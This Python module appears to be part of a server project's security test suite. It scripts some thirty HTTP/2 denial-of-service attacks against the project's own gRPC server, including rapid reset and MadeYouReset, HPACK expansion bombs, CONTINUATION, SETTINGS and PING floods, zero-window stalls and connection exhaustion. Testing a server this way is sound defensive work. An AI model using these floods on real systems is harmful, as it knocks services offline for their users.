"""Attacks with HTTP/2 alone: frames, windows, header blocks and connections."""

from __future__ import annotations

import struct

from tests.attacks.attacker import Attacker, attack
from tests.attacks.wire import Wire
from tests.transport.peer import (
    CONTINUATION,
    END_HEADERS,
    HEADERS,
    PING,
    PREFACE,
    PRIORITY,
    S_INITIAL_WINDOW_SIZE,
    SETTINGS,
    data,
    frame,
    goaway,
    grpc_message,
    rst_stream,
    settings,
    window_update,
)

#: Frames in one write: what a single segment burst delivers to the server's reader.
BURST = 4_000


def _burst(attacker: Attacker, method: str, extra: tuple[tuple[str, str], ...] = (), *, end: bool = True) -> None:
    """Send bursts of HEADERS, each on a connection of its own."""
    for _ in attacker.rounds():
        on = attacker.wire()
        on.send(*(on.headers(on.new_stream(), method, end=end, extra=extra) for _ in range(BURST)))
        on.ping()
        attacker.outcomes["connection closed" if on.closed else "connection stays"] += 1
        on.close()


@attack("T22")
def headers_unknown(attacker: Attacker) -> None:
    """Bursts of 4,000 HEADERS that name no method: seconds of the one thread for 60 KB."""
    _burst(attacker, "/x")


@attack("T22")
def headers_real(attacker: Attacker) -> None:
    """Bursts of 4,000 whole ListActions requests: a task and an answer for each 15 bytes."""
    _burst(attacker, "ListActions")


@attack("T22")
def headers_open(attacker: Attacker) -> None:
    """Bursts of 4,000 DoExchange that stay open: more streams than a connection may have."""
    _burst(attacker, "DoExchange", end=False)


@attack("T9, T22")
def headers_many_fields(attacker: Attacker) -> None:
    """One indexed field 1,400 times in a block: 1 byte of wire for each field that a decoder makes."""
    for _ in attacker.rounds():
        on = attacker.wire()
        first = on.headers(on.new_stream(), "DoExchange", end=True, extra=(("a", "b"),))
        block = on.encoder.encode([(":method", "POST"), (":scheme", "http"), (":path", "/x"), (":authority", "attack")])
        repeated = block + b"\xbe" * 1_400
        on.send(first, *(frame(HEADERS, END_HEADERS | 1, on.new_stream(), repeated) for _ in range(200)))
        on.ping()
        attacker.outcomes["connection closed" if on.closed else "connection stays"] += 1
        on.close()


@attack("T9, T22")
def hpack_expansion(attacker: Attacker) -> None:
    """A 3,000 byte value, named 20 times by each of 2,000 blocks of 30 bytes: 120 MB of fields for 60 KB."""
    for _ in attacker.rounds():
        on = attacker.wire()
        first = on.headers(on.new_stream(), "DoExchange", end=True, extra=(("x-a", "a" * 3_000),))
        block = on.encoder.encode([(":method", "POST"), (":scheme", "http"), (":path", "/x"), (":authority", "attack")])
        # The path entered the table before the value did; the value's index is one further.
        big = block + b"\xbf" * 20
        on.send(first, *(frame(HEADERS, END_HEADERS | 1, on.new_stream(), big) for _ in range(2_000)))
        on.ping()
        attacker.outcomes["connection closed" if on.closed else "connection stays"] += 1
        on.close()


@attack("T9, T22")
def hpack_evictions(attacker: Attacker) -> None:
    """Blocks whose every field enters the dynamic table and evicts another one."""
    on = attacker.wire()
    for _ in attacker.rounds():
        parts = []
        for _ in range(20):
            stream_id = on.new_stream()
            extra = tuple((f"x-{stream_id}-{n}", "v" * 20) for n in range(60))
            parts.append(on.headers(stream_id, "ListActions", end=True, extra=extra))
        if not on.send(*parts) or on.closed:
            on = attacker.wire()
            attacker.outcomes["connection closed"] += 1


@attack("T9, T22")
def table_size_updates(attacker: Attacker) -> None:
    """Header blocks that begin with thousands of dynamic table size updates."""
    for _ in attacker.rounds():
        on = attacker.wire()
        updates = (b"\x20" + b"\x3f\xe1\x1f") * 3_000
        block = updates + on.encoder.encode([(":method", "POST"), (":scheme", "http"), (":path", "/x")])
        on.send(*(frame(HEADERS, END_HEADERS | 1, on.new_stream(), block) for _ in range(100)))
        on.ping()
        attacker.outcomes["connection closed" if on.closed else "connection stays"] += 1
        on.close()


@attack("T9")
def continuation_empty(attacker: Attacker) -> None:
    """HEADERS without an end, then empty CONTINUATION frames: work for 9 bytes, forever in one block."""
    for _ in attacker.rounds():
        on = attacker.wire()
        on.send(frame(HEADERS, 0, 1, b"\x83"))
        for _ in attacker.rounds(50):
            if not on.send(frame(CONTINUATION, 0, 1, b"") * 2_000) or on.closed:
                break
        attacker.outcomes["connection closed" if on.closed else "connection stays"] += 1
        on.close()


@attack("T9")
def continuation_endless(attacker: Attacker) -> None:
    """A header block that grows by 16 KiB CONTINUATION frames: memory that no window bounds."""
    for _ in attacker.rounds():
        on = attacker.wire()
        on.send(frame(HEADERS, 0, 1, b"\x83"))
        for _ in attacker.rounds(500):
            if not on.send(frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 3_200)) or on.closed:
                break
        attacker.outcomes["connection closed" if on.closed else "connection stays"] += 1
        on.close()


@attack("T9, T22")
def blocks_left_open(attacker: Attacker) -> None:
    """500 connections, each with 60 KiB of a header block that never ends."""
    part = b"\x00\x01a\x01b" * 3_000
    for _ in attacker.rounds(500):
        on = attacker.wire(reads=False)
        on.send(frame(HEADERS, 0, 1, part), *(frame(CONTINUATION, 0, 1, part) for _ in range(3)))
    attacker.hold()


@attack("T9")
def settings_flood(attacker: Attacker) -> None:
    """SETTINGS frames, each with 2,700 values: an acknowledgement and a change of all streams for each."""
    full = settings(dict.fromkeys((S_INITIAL_WINDOW_SIZE,), 70_000))[9:] * 2_700
    for _ in attacker.rounds():
        on = attacker.wire()
        for _ in range(900):
            on.send(on.headers(on.new_stream(), "DoExchange"))
        for _ in attacker.rounds(300):
            if not on.send(frame(SETTINGS, 0, 0, full)) or on.closed:
                break
        attacker.outcomes["connection closed" if on.closed else "connection stays"] += 1
        on.close()


@attack("T9")
def ping_flood(attacker: Attacker) -> None:
    """PING frames whose answers are not read."""
    pings = frame(PING, 0, 0, b"12345678") * 1_000
    for _ in attacker.rounds():
        on = attacker.wire(reads=False, receive_buffer=4096)
        for _ in attacker.rounds(100):
            if not on.send(pings):
                break
        attacker.outcomes["connection closed" if on.closed else "connection stays"] += 1
        on.close()


@attack("T9")
def rapid_reset(attacker: Attacker) -> None:
    """Requests that are reset at once (CVE-2023-44487)."""
    for _ in attacker.rounds():
        on = attacker.wire()
        parts = []
        for _ in range(2_000):
            stream_id = on.new_stream()
            parts += [on.headers(stream_id, "ListFlights"), rst_stream(stream_id)]
        on.send(*parts)
        on.ping()
        attacker.outcomes["connection closed" if on.closed else "connection stays"] += 1
        on.close()


@attack("T9")
def made_you_reset(attacker: Attacker) -> None:
    """Requests with an error that makes the server reset them while their work goes on (CVE-2025-8671)."""
    for _ in attacker.rounds():
        on = attacker.wire()
        parts = []
        for _ in range(1_000):
            stream_id = on.new_stream()
            request = grpc_message(b"")
            parts += [
                on.headers(stream_id, "ListFlights"),
                data(stream_id, request, end=True),
                window_update(stream_id, 0),
                data(stream_id, request),
            ]
        on.send(*parts)
        on.ping()
        attacker.outcomes["connection closed" if on.closed else "connection stays"] += 1
        on.close()


@attack("T9")
def window_updates(attacker: Attacker) -> None:
    """WINDOW_UPDATE frames of one byte, for the connection and for 900 streams that wait for window."""
    for _ in attacker.rounds():
        on = attacker.wire(values={S_INITIAL_WINDOW_SIZE: 0}, widen=False)
        streams = [on.call("ListActions", grpc_message(b"")) for _ in range(900)]
        for _ in attacker.rounds(20):
            updates = b"".join(window_update(0, 1) + window_update(stream_id, 1) for stream_id in streams)
            if not on.send(updates) or on.closed:
                break
        attacker.outcomes["connection closed" if on.closed else "connection stays"] += 1
        on.close()


@attack("T4, T26")
def zero_windows(attacker: Attacker) -> None:
    """20 connections with 900 answered requests each and no window: the answers stay in the server."""
    for _ in attacker.rounds(20):
        on = attacker.wire(values={S_INITIAL_WINDOW_SIZE: 0}, widen=False)
        for _ in range(900):
            stream_id = on.new_stream()
            on.send(on.headers(stream_id, "ListActions"), data(stream_id, grpc_message(b""), end=True))
    attacker.hold()


@attack("T22")
def window_flips(attacker: Attacker) -> None:
    """INITIAL_WINDOW_SIZE up and down while 900 streams are open: each walks all of them."""
    for _ in attacker.rounds():
        on = attacker.wire()
        for _ in range(900):
            on.send(on.headers(on.new_stream(), "DoExchange"))
        for size in attacker.rounds(400):
            if not on.send(settings({S_INITIAL_WINDOW_SIZE: 2**31 - 1 if size % 2 else 0})) or on.closed:
                break
        attacker.outcomes["connection closed" if on.closed else "connection stays"] += 1
        on.close()


@attack("T22")
def one_byte_frames(attacker: Attacker) -> None:
    """A write's bytes in DATA frames of one byte each: a frame's work for ten bytes of wire."""
    on = attacker.wire()
    stream_id = on.open("DoExchange")
    body = grpc_message(bytes(60_000), 0)[:60_000]
    on.send(*(data(stream_id, body[at : at + 1]) for at in range(len(body))))
    for _ in attacker.rounds():
        on = attacker.wire()
        stream_id = on.open("DoExchange")
        on.send(*(data(stream_id, body[at : at + 1]) for at in range(len(body))))
        attacker.note(on.outcome(stream_id))
        on.close()


@attack("T7, T22")
def padding(attacker: Attacker) -> None:
    """DATA frames of padding alone: window is spent and given back for nothing."""
    on = attacker.wire()
    stream_id = on.open("DoExchange")
    for _ in attacker.rounds():
        if on.closed or stream_id in on.statuses:
            attacker.note(on.outcome(stream_id))
            on = attacker.wire()
            stream_id = on.open("DoExchange")
        on.send(data(stream_id, b"", padding=255) * 200)


@attack("T9")
def empty_data(attacker: Attacker) -> None:
    """DATA frames without a byte."""
    for _ in attacker.rounds():
        on = attacker.wire()
        stream_id = on.open("DoExchange")
        for _ in attacker.rounds(100):
            if not on.send(data(stream_id) * 1_000) or on.closed:
                break
        attacker.outcomes["connection closed" if on.closed else "connection stays"] += 1
        on.close()


@attack("T9")
def stray_data(attacker: Attacker) -> None:
    """DATA for streams that the client has reset itself."""
    for _ in attacker.rounds():
        on = attacker.wire()
        stream_id = on.open("DoExchange")
        on.send(rst_stream(stream_id))
        for _ in attacker.rounds(100):
            if not on.send(data(stream_id, b"x" * 100) * 500) or on.closed:
                break
        attacker.outcomes["connection closed" if on.closed else "connection stays"] += 1
        on.close()


@attack("T9")
def other_frames(attacker: Attacker) -> None:
    """PRIORITY, GOAWAY and unknown frames."""
    mix = frame(PRIORITY, 0, 1, struct.pack(">IB", 3, 1)) + goaway(0) + frame(0xBE, 0, 0, b"x" * 20)
    for _ in attacker.rounds():
        on = attacker.wire()
        for _ in attacker.rounds(27):
            if not on.send(mix * 100) or on.closed:
                break
        attacker.outcomes["connection closed" if on.closed else "connection stays"] += 1
        on.close()


@attack("T9, T22")
def goaway_flood(attacker: Attacker) -> None:
    """GOAWAY frames with an error and 1 KiB of text: a line of the log for each."""
    shout = goaway(0, 2, b"A" * 1024)
    for _ in attacker.rounds():
        on = attacker.wire()
        for _ in attacker.rounds(200):
            if not on.send(shout * 50) or on.closed:
                break
        attacker.outcomes["connection closed" if on.closed else "connection stays"] += 1
        on.close()


@attack("R31")
def connection_storm(attacker: Attacker) -> None:
    """Connections that are opened and closed as fast as one process can."""

    def storm(_: int) -> None:
        for _ in attacker.rounds():
            opened = attacker.socket()
            if opened is not None:
                opened.close()

    attacker.together(4, storm)


@attack("R31")
def half_handshakes(attacker: Attacker) -> None:
    """1,500 connections that send half a preface and stay."""
    for _ in attacker.rounds(1_500):
        opened = attacker.socket()
        if opened is not None:
            attacker.send(opened, PREFACE[:10])
    attacker.hold()


@attack("R31")
def idle_connections(attacker: Attacker) -> None:
    """3,000 connections that say nothing: every descriptor that the server may have."""
    for _ in attacker.rounds(3_000):
        attacker.socket()
    attacker.hold()


@attack("R31")
def shaken_connections(attacker: Attacker) -> None:
    """2,000 connections that shake hands, open a stream each and say nothing more."""
    for _ in attacker.rounds(2_000):
        opened = attacker.socket()
        if opened is None:
            continue
        block = Wire.headers_of("DoExchange")
        attacker.send(opened, PREFACE + settings() + frame(HEADERS, END_HEADERS, 1, block))
    attacker.hold()


@attack("T22")
def slow_preface(attacker: Attacker) -> None:
    """200 connections that send their preface byte by byte."""
    opened = [found for _ in range(200) if (found := attacker.socket()) is not None]
    for at in attacker.rounds(len(PREFACE)):
        opened = [each for each in opened if attacker.send(each, PREFACE[at : at + 1])]
        attacker.pause(attacker.seconds / len(PREFACE))
    attacker.outcomes["still open"] = len(opened)


@attack("T11, T22")
def not_grpc(attacker: Attacker) -> None:
    """Requests that are not gRPC, none of which ends: each waits for the rest."""
    for _ in attacker.rounds():
        on = attacker.wire()
        fields = [(":method", "POST"), (":scheme", "http"), (":path", "/index.html"), (":authority", "attack")]
        block = on.encoder.encode(fields)
        block = on.encoder.encode(fields)
        on.send(*(frame(HEADERS, END_HEADERS, on.new_stream(), block) for _ in range(900)))
        on.ping()
        attacker.outcomes["connection closed" if on.closed else "connection stays"] += 1
        on.close()
